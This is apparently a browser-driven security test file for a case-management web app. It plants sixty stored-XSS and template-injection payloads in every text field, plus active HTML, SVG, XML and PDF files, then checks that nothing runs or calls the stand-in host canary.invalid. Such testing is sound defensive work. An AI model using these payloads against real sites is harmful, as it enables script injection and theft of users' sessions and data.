// Text and files that try to run: written into every text field, filed as evidence, then looked at on every page.

import assert from "node:assert/strict";

const CANARY = "http://canary.invalid";

// Sixty texts. Whatever of one is taken for markup carries the attribute `data-ran`, calls home, or sets `ran`.
const HOME = `fetch('${CANARY}/')`;
const RUN = `window.ran=1;alert(1)`;
const PAYLOADS = [
  `<script data-ran>${RUN}</script>`,
  `<SCRIPT DATA-RAN>${RUN}</SCRIPT>`,
  `<script data-ran src=${CANARY}/a.js></script>`,
  `<script data-ran src="//canary.invalid/a.js"></script>`,
  `</title><script data-ran>${RUN}</script>`,
  `</textarea><script data-ran>${RUN}</script>`,
  `</script><script data-ran>${RUN}</script>`,
  `</style><script data-ran>${RUN}</script>`,
  `--><script data-ran>${RUN}</script><!--`,
  `]]><script data-ran>${RUN}</script>`,
  `"><script data-ran>${RUN}</script>`,
  `'><script data-ran>${RUN}</script>`,
  `"><img data-ran src=x onerror="${RUN}">`,
  `'><img data-ran src=x onerror='${RUN}'>`,
  `<img data-ran src=x onerror=alert(1)>`,
  `<img data-ran src="${CANARY}/a.png">`,
  `<img data-ran/src=x/onerror=alert(1)>`,
  `<img data-ran src=x:x onerror=window.ran=1>`,
  `<svg data-ran onload=alert(1)>`,
  `<svg data-ran><script>${RUN}</script></svg>`,
  `<svg data-ran><a xlink:href="javascript:${RUN}"><text x="9" y="9">a</text></a></svg>`,
  `<svg data-ran><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg data-ran><image href="${CANARY}/a.svg"></image></svg>`,
  `<math data-ran><mtext><table><mglyph><style><img src onerror=alert(1)>`,
  `<body data-ran onload=alert(1)>`,
  `<iframe data-ran src="javascript:${RUN}"></iframe>`,
  `<iframe data-ran srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe data-ran src="${CANARY}/"></iframe>`,
  `<object data-ran data="${CANARY}/a.swf"></object>`,
  `<embed data-ran src="${CANARY}/a.swf">`,
  `<video data-ran><source onerror=alert(1)></video>`,
  `<audio data-ran src=x onerror=alert(1)>`,
  `<details data-ran open ontoggle=alert(1)>`,
  `<input data-ran autofocus onfocus=alert(1)>`,
  `<select data-ran autofocus onfocus=alert(1)>`,
  `<textarea data-ran autofocus onfocus=alert(1)>`,
  `<button data-ran form=f formaction="javascript:${RUN}">a</button>`,
  `<form data-ran action="${CANARY}/"><input name=csrf></form>`,
  `<marquee data-ran onstart=alert(1)>`,
  `<a data-ran href="javascript:${RUN}">a</a>`,
  `<a data-ran href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a data-ran href="java&#10;script:alert(1)">a</a>`,
  `<link data-ran rel=stylesheet href="${CANARY}/a.css">`,
  `<style data-ran>@import '${CANARY}/a.css';</style>`,
  `<style data-ran>*{background:url(${CANARY}/a.png)}</style>`,
  `<p data-ran style="background:url(${CANARY}/a.png)">a</p>`,
  `<meta data-ran http-equiv=refresh content="0;url=${CANARY}/">`,
  `<base data-ran href="${CANARY}/">`,
  `<template data-ran><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img data-ran src=x onerror=alert(1)>">`,
  `[a](javascript:${RUN})`,
  `![a](${CANARY}/a.png)`,
  `[a]: ${CANARY}/ "a"`,
  `<${CANARY}/>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${HOME}}`,
  `<%= ${HOME} %>`,
  `a" autofocus onfocus="${RUN}" data-ran="a`,
  `a' onmouseover='${HOME}' data-ran='a`,
];

// A client of the interface as whoever is signed in on the page.
async function client(test, page) {
  await page.goto(`${test.url}/account`);
  const token = await page.locator("input[name=csrf]").first().inputValue();
  return async (method, address, options = {}) => {
    const answer = await page.request.fetch(`${test.url}/api${address}`, { method, headers: { "x-csrf": token }, ...options });
    assert.ok(answer.ok(), `${method} ${address}: ${answer.status()} ${await answer.text()}`);
    const text = await answer.text();
    return text ? JSON.parse(text) : null;
  };
}

const PARTICULARS = ["source", "collector", "collected", "place", "tool", "authority"];

// Files an exhibit whose every particular is the text.
function exhibit(text, name, bytes) {
  const told = Object.fromEntries(PARTICULARS.map((part) => [part, text]));
  return { multipart: { name, ...told, file: { name: "file", mimeType: "text/html", buffer: Buffer.from(bytes) } } };
}

// A dataset whose names, aliases and links are the texts; gives its id and its records.
async function dataset(steward) {
  let first;
  const agreement = { purposes: ["procurement"], matching: true, standing_rules: true, from: "2026-01-01T00:00:00Z", until: "2076-01-01T00:00:00Z" };
  for (const [at, text] of PAYLOADS.entries()) {
    const data = { name: `hostile_${at}`, title: text, publisher: text, agreement: { ...agreement, authority: text, terms: text } };
    const made = await steward("POST", "/datasets", { data });
    first ??= made.id;
  }
  const entities = PAYLOADS.flatMap((text, at) => [
    { id: `c${at}`, schema: "Company", properties: { name: [text], alias: [`alias ${text}`], address: [text], registrationNumber: [`HX7734${1000 + at}`] } },
    { id: `o${at}`, schema: "Ownership", properties: { owner: [`c${at}`], asset: [`c${(at + 1) % PAYLOADS.length}`], role: [text], startDate: ["2020-02-02"] } },
  ]);
  const lines = entities.map((entity) => JSON.stringify(entity)).join("\n");
  const file = { name: "hostile.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(lines) };
  const told = await steward("POST", `/datasets/${first}/releases`, { multipart: { label: PAYLOADS[0], mapping: "ftm", file } });
  assert.equal(told.outcome, "published");
  return first;
}

// Everything written, by everybody, into one case and around it.
async function written(test, people) {
  const { steward, lead, supervisor, administrator } = people;
  const source = await dataset(steward);
  const open = (title) => ({ data: { title, predicate: title, purpose: "procurement", legal_basis: "statutory_inquiry", datasets: [source], kinds: ["organisations", "assets", "papers"], days: 30 } });
  const refused = [];
  for (const text of PAYLOADS) {
    const { id } = await lead("POST", "/cases", open(text));
    await supervisor("POST", `/cases/${id}/decision`, { data: { decision: "refuse", reason: text } });
    refused.push(id);
  }
  const { id } = await lead("POST", "/cases", open(PAYLOADS[0]));
  await supervisor("POST", `/cases/${id}/decision`, { data: { decision: "approve" } });
  const at = `/cases/${id}`;
  await lead("PUT", `${at}/reason`, { data: { line: "ownership", settles: PAYLOADS[0] } });
  const { id: report } = await lead("POST", `${at}/reports`, { data: {} });
  const notes = [];
  const exhibits = [];
  for (const text of PAYLOADS) {
    notes.push((await lead("POST", `${at}/notes`, { data: { kind: "note", title: text, text } })).id);
    exhibits.push((await lead("POST", `${at}/evidence`, exhibit(text, text, text))).id);
    await lead("POST", `${at}/tasks`, { data: { title: text, words: text } });
    const { id: hypothesis } = await lead("POST", `${at}/hypotheses`, { data: { title: text, words: text } });
    await lead("POST", `${at}/hypotheses/${hypothesis}/weighings`, { data: { about: `note:${notes[0]}`, bears: "for", words: text } });
    await lead("POST", `${at}/reports/${report}/comments`, { data: { words: text } });
    await administrator("POST", "/users", { data: { name: `hostile-${notes.length}`, title: text, roles: ["investigator"] } });
  }
  await lead("POST", `${at}/interests`, { data: { conflict: false, words: PAYLOADS.join(" ") } });
  const records = [];
  for (const [number, text] of PAYLOADS.entries()) {
    const { things } = await lead("POST", `${at}/search`, { data: { text: `HX7734${1000 + number}`, fuzzy: false } });
    const found = things.hits.find((hit) => hit.caption === text);
    assert.ok(found, `not found: ${text} in ${JSON.stringify(things.hits.slice(0, 3))}`);
    records.push(found.record);
    await lead("POST", `${at}/subjects`, { data: { record: found.record, basis: text } });
  }
  for (const text of PAYLOADS.slice(0, 20)) {
    const kept = { nodes: records.slice(0, 3).map((record) => ({ id: record, remark: text })), steps: [] };
    await lead("POST", `${at}/board/views`, { data: { name: text.slice(0, 60), kept } }).catch((error) => {
      if (!/malformed/.test(error.message)) throw error;
    });
  }
  const told = ["recipient", "address", "purpose", "authority", "nature"];
  for (let from = 0; from < PAYLOADS.length; from += told.length) {
    const data = Object.fromEntries(told.map((part, more) => [part, PAYLOADS[from + more]]));
    const token = await people.page.locator("input[name=csrf]").first().inputValue();
    const answer = await people.page.request.fetch(`${test.url}/api${at}/disclosures`, { method: "POST", data, headers: { "x-csrf": token } });
    assert.ok(answer.ok(), `${answer.status()} ${await answer.text()}`);
  }
  return { at, source, refused, notes, exhibits, report, records };
}

// Watches a page for anything that ran, was asked for elsewhere, or was taken for markup.
function watched(page, complaints) {
  page.on("dialog", (dialog) => {
    complaints.push(`a dialog on ${page.url()}: ${dialog.message()}`);
    dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).host.includes("canary")) complaints.push(`${request.url()} is asked for from ${page.url()}`);
  });
}

// What a person reads on the page, with what stands in its fields and in its tooltips.
const read = (page) =>
  page.evaluate(() => {
    const fields = [...document.querySelectorAll("input, textarea, select")].map((one) => one.value);
    const tips = [...document.querySelectorAll("[title], [aria-label]")].flatMap((one) => [one.title, one.getAttribute("aria-label")]);
    return [document.body.textContent, ...fields, ...tips].join("\n").replace(/\s+/g, " ");
  });

async function looked(test, page, path, complaints, shows) {
  await page.goto(`${test.url}${path}`, { waitUntil: "load" });
  const markup = await page.locator("[data-ran], script:not([src]), iframe[srcdoc], base, object, embed, meta[http-equiv=refresh]").count();
  if (markup) complaints.push(`${path} takes text for markup`);
  const links = await page.evaluate(() => {
    const all = [...document.querySelectorAll("a[href], area[href], img[src], form[action], link[href], script[src]")];
    const leads = all.map((one) => one.href || one.src || one.action).filter((address) => typeof address === "string" && address);
    return leads.filter((address) => {
      const { protocol, host } = new URL(address, location.href);
      return protocol === "javascript:" || host.includes("canary") || (protocol === "data:" && !address.startsWith("data:image/"));
    }).length;
  });
  if (links) complaints.push(`${path} makes links of text`);
  if (await page.evaluate(() => "ran" in window)) complaints.push(`${path} runs text`);
  const text = await read(page);
  for (const one of shows) if (!text.includes(one.replace(/\s+/g, " "))) complaints.push(`${path} does not show as typed: ${one}`);
}

async function signedIn(test, options) {
  const people = {};
  people.page = await test.signIn("investigator", options);
  people.lead = await client(test, people.page);
  for (const [name, role] of [["steward", "data_steward"], ["supervisor", "supervisor"], ["administrator", "administrator"]]) {
    people[`${name}Page`] = await test.signIn(role, options);
    people[name] = await client(test, people[`${name}Page`]);
  }
  people.auditorPage = await test.signIn("auditor", options);
  return people;
}

export async function in_01_sixty_payloads_in_every_text_field_run_nowhere_and_show_as_typed_c1(test) {
  assert.equal(new Set(PAYLOADS).size, 60);
  const people = await signedIn(test, {});
  const made = await written(test, people);
  const { at } = made;
  const complaints = [];
  const { page } = people;
  for (const one of [page, people.stewardPage, people.supervisorPage, people.administratorPage, people.auditorPage]) watched(one, complaints);
  const some = PAYLOADS.slice(0, 1);
  const places = [
    ["/cases", PAYLOADS],
    [at, some],
    [`${at}/notes`, PAYLOADS],
    [`${at}/evidence`, PAYLOADS],
    [`${at}/work`, PAYLOADS],
    [`${at}/subjects`, PAYLOADS],
    [`${at}/reports`, []],
    [`${at}/reports/${made.report}`, PAYLOADS],
    // The page has four of the five fields of a disclosure.
    [`${at}/disclosures`, PAYLOADS.filter((_, number) => number % 5 !== 4)],
    [`${at}/timeline`, []],
    [`${at}/board`, []],
    [`${at}/inbox`, []],
    [`${at}/proposals`, []],
    [`${at}/report`, []],
    [`${at}/readings`, []],
    [`${at}/documents?words=script`, []],
    [`${at}/log`, []],
    [`${at}/notes/new`, []],
    ...made.notes.map((id, number) => [`${at}/notes/${id}`, [PAYLOADS[number]]]),
    [`${at}/notes/${made.notes[12]}/edit`, [PAYLOADS[12]]],
    ...made.exhibits.map((id, number) => [`${at}/evidence/${id}`, [PAYLOADS[number]]]),
    ...made.exhibits.slice(0, 12).map((id) => [`${at}/evidence/${id}/text`, []]),
    ...made.refused.map((id, number) => [`/cases/${id}`, [PAYLOADS[number]]]),
    ...made.records.map((id, number) => [`${at}/records/${id}`, [PAYLOADS[number], `alias ${PAYLOADS[number]}`]]),
    ...made.records.slice(0, 10).flatMap((id) => [[`${at}/records/${id}/links`, []], [`${at}/identities/${id}`, []]]),
    ...PAYLOADS.map((text) => [`${at}/search?line=ownership&settle=${encodeURIComponent(text)}&q=${encodeURIComponent(text)}`, [text]]),
  ];
  for (const [path, shows] of places) await looked(test, page, path, complaints, shows);
  await looked(test, people.stewardPage, "/datasets", complaints, PAYLOADS);
  await looked(test, people.stewardPage, `/datasets/${made.source}`, complaints, some);
  await looked(test, people.stewardPage, "/sources", complaints, []);
  await looked(test, people.administratorPage, "/users", complaints, PAYLOADS);
  await looked(test, people.supervisorPage, "/cases", complaints, PAYLOADS);
  for (const purpose of ["lawfulness"]) await looked(test, people.auditorPage, `/log?purpose=${purpose}`, complaints, []);
  // On paper, and without scripts, the same.
  for (const path of [`${at}/report`, `${at}/reports/${made.report}`, `${at}/notes/${made.notes[0]}`, `${at}/timeline`]) {
    await page.goto(`${test.url}${path}`);
    await page.emulateMedia({ media: "print" });
    assert.ok((await page.pdf()).length > 1000);
    await page.emulateMedia({ media: "screen" });
  }
  assert.equal([...new Set(complaints)].join("\n"), "");
}
in_01_sixty_payloads_in_every_text_field_run_nowhere_and_show_as_typed_c1.slowest = 900_000;

const PDF = `%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${CANARY}/)>>>>>> endobj
trailer <</Root 1 0 R>>`;

// Files that a browser would run if it opened them as what they are.
const ACTIVE = [
  ["page.html", `<!doctype html><html data-ran><body><script>${RUN}</script><img src=${CANARY}/a.png onerror=alert(1)></body></html>`],
  ["drawing.svg", `<svg xmlns="http://www.w3.org/2000/svg" data-ran="1" onload="${RUN}"><script>${RUN}</script><image href="${CANARY}/a.png"/></svg>`],
  ["sheet.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${CANARY}/a.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script></x>`],
  ["page.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${RUN}</script></body></html>`],
  ["paper.pdf", PDF],
  ["words.html", `only words, and <b data-ran>a tag</b>`],
  ["words.txt.html", "no markup at all"],
];

export async function in_02_active_files_are_attachments_and_run_nothing_in_our_origin_c1(test) {
  const people = await signedIn(test, {});
  const { page, lead, supervisor } = people;
  const complaints = [];
  const { datasets } = await lead("GET", "/datasets");
  const data = { title: "Active files", datasets: [datasets[0].id], predicate: "p", purpose: "procurement", legal_basis: "statutory_inquiry", kinds: ["organisations"], days: 30 };
  const { id } = await lead("POST", "/cases", { data });
  await supervisor("POST", `/cases/${id}/decision`, { data: { decision: "approve" } });
  const at = `/cases/${id}`;
  const items = [];
  for (const [name, text] of ACTIVE) items.push((await lead("POST", `${at}/evidence`, exhibit("as told", name, text))).id);
  // Their text is read by a process beside the desk; the pages are looked at when it has been.
  for (const waited of Array(60).keys()) {
    const { waiting } = await lead("GET", `${at}/readings`);
    if (waiting === 0 || waited === 59) break;
    await page.waitForTimeout(500);
  }
  watched(page, complaints);
  for (const [number, item] of items.entries()) {
    for (const path of [`${at}/evidence/${item}`, `${at}/evidence/${item}/text`]) await looked(test, page, path, complaints, []);
    for (const address of [`${at}/evidence/${item}/bytes`, `/api${at}/evidence/${item}/bytes`]) {
      const answer = await page.request.get(`${test.url}${address}`);
      assert.equal(answer.status(), 200, address);
      const headers = answer.headers();
      assert.match(headers["content-disposition"], /^attachment;/, address);
      assert.equal(headers["content-type"], "application/octet-stream", address);
      assert.equal(headers["x-content-type-options"], "nosniff", address);
      assert.match(headers["content-security-policy"], /default-src 'none'/, address);
      assert.equal((await answer.body()).toString(), ACTIVE[number][1]);
      // Typed into the address bar, it is saved and not opened.
      const [download] = await Promise.all([page.waitForEvent("download"), page.goto(`${test.url}${address}`).catch(() => {})]);
      assert.ok(download.suggestedFilename().length > 0);
      await download.delete();
      // Nor does a page of ours get it to run as anything else.
      await page.goto(`${test.url}${at}`);
      const ran = await page.evaluate(async (source) => {
        for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["object", "data"], ["img", "src"]]) {
          const one = document.createElement(tag);
          one[name] = source;
          await new Promise((done) => {
            one.onload = one.onerror = done;
            setTimeout(done, 300);
            document.body.append(one);
          });
        }
        return "ran" in window;
      }, address);
      assert.equal(ran, false, address);
    }
  }
  assert.deepEqual([...new Set(complaints)], []);
}
in_02_active_files_are_attachments_and_run_nothing_in_our_origin_c1.slowest = 400_000;
